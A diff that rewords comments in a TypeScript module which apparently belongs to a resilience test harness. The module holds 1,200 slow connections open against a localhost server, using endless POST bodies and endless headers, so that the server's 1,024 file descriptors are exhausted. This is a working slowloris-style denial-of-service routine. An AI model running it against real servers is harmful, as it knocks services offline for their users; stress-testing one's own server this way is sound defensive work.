@@ -1,20 +1,20 @@
-/** Connections that are held open: with more of them than there are descriptors, nobody else could connect. */
+/** Connections held open: with more of them than descriptors, no other client could connect. */
 import { setTimeout as sleep } from "node:timers/promises";
 import type { Attack, AttackTarget } from "./attack.js";
 import { ended, open } from "./sockets.js";
 
-/** More than the server has descriptors. */
+/** More than the server's descriptors. */
 const connections = 1200;
 const descriptorsMax = 1024;
 
-/** Within the ten seconds that a server may wait for more of a request. */
+/** Less than the ten seconds that a server may wait for more of a request. */
 const byteEveryMilliseconds = 5000;
 
 /** How a connection is held. */
 const beginnings: readonly string[] = [
-  // A form for a token that never ends.
+  // An endless token request form.
   "POST /token HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 60000\r\n\r\ng",
-  // A head that never ends.
+  // Endless headers.
   "GET /v2/ HTTP/1.1\r\nHost: localhost\r\nX-Slow: ",
   // Nothing at all.
   "",
@@ -27,7 +27,7 @@ async function hold(target: AttackTarget, beginning: string): Promise<void> {
     const drip = setInterval(() => beginning !== "" && socket.write("x"), byteEveryMilliseconds);
     await ended(socket);
     clearInterval(drip);
-    // Whoever is refused tries again, and is not what the server is busy with.
+    // A refused client retries after a pause, so that it does not keep the server busy.
     await sleep(100);
   }
 }
